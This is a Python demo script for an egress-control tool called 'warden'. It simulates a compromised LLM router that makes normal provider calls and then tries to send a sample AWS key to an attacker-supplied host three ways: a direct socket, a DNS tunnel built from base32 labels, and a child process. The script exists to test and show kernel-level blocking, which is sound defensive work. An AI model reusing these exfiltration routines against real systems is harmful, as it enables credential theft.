"""The demo's LLM router: it calls its provider by name, as LiteLLM does, and then,
compromised, tries to send a stolen key out three ways. Each line it prints is one attempt
and what the kernel made of it. Run by `warden demo` inside the workload's cgroup."""
from __future__ import annotations

import base64
import socket
import subprocess
import sys
import time

STOLEN_KEY = "AKIAIOSFODNN7EXAMPLE"  # AWS's documented example key, not a real one


def say(what: str, outcome: str) -> None:
    print(f"{what:<58} {outcome}", flush=True)


def outcome_of(error: BaseException | None) -> str:
    return "ok" if error is None else f"FAILED: {error}"


def call_provider(name: str, port: int) -> None:
    """Resolve the provider by name (glibc, through the agent's DNS proxy) and POST a prompt."""
    error = None
    try:
        address = socket.getaddrinfo(name, port, socket.AF_INET, socket.SOCK_STREAM)[0][4]
        with socket.create_connection(address, timeout=3) as conn:
            conn.sendall(b"POST /v1/chat/completions {\"messages\": [\"hello\"]}\n")
            conn.recv(64)
    except OSError as e:
        error = e
    say(f"call {name}:{port}", outcome_of(error))


def exfiltrate_direct(ip: str, port: int) -> None:
    error = None
    try:
        with socket.create_connection((ip, port), timeout=3) as conn:
            conn.sendall(STOLEN_KEY.encode())
    except OSError as e:
        error = e
    say(f"exfiltrate: connect straight to {ip}:{port}", outcome_of(error))


def exfiltrate_dns_tunnel(zone: str) -> None:
    """The key as labels under the attacker's zone: the attacker's DNS server would log it."""
    label = base64.b32encode(STOLEN_KEY.encode()).decode().rstrip("=").lower()
    error = None
    try:
        socket.getaddrinfo(f"{label}.{zone}", 443, socket.AF_INET, socket.SOCK_STREAM)
    except OSError as e:
        error = e
    say(f"exfiltrate: DNS tunnel {label[:12]}....{zone}", outcome_of(error))


def exfiltrate_child(ip: str, port: int) -> None:
    """A child process (as an injected tool call would run curl): it is in the cgroup too."""
    code = (f"import socket; s = socket.create_connection(({ip!r}, {port}), timeout=3); "
            f"s.sendall({STOLEN_KEY!r}.encode())")
    child = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True)
    error = None if child.returncode == 0 else child.stderr.strip().splitlines()[-1]
    say(f"exfiltrate: child process to {ip}:{port}", "ok" if error is None else f"FAILED: {error}")


def main() -> None:
    provider, attacker, zone = sys.argv[1], sys.argv[2], sys.argv[3]
    for _ in range(2):
        call_provider(provider, 443)
    exfiltrate_direct(attacker, 443)
    exfiltrate_dns_tunnel(zone)
    exfiltrate_child(attacker, 443)
    call_provider(provider, 443)
    time.sleep(0.5)  # let the agent act before the router exits on its own


if __name__ == "__main__":
    main()
